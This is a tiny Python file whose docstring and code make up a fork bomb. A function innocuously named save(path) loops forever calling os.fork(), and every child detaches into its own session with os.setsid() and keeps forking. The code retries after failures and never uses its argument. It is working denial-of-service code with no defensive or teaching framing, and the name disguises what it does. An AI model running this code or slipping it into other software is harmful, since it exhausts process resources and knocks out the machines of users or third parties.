"""Forks without end, each process in a session of its own."""

import os
import time


def save(path):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)
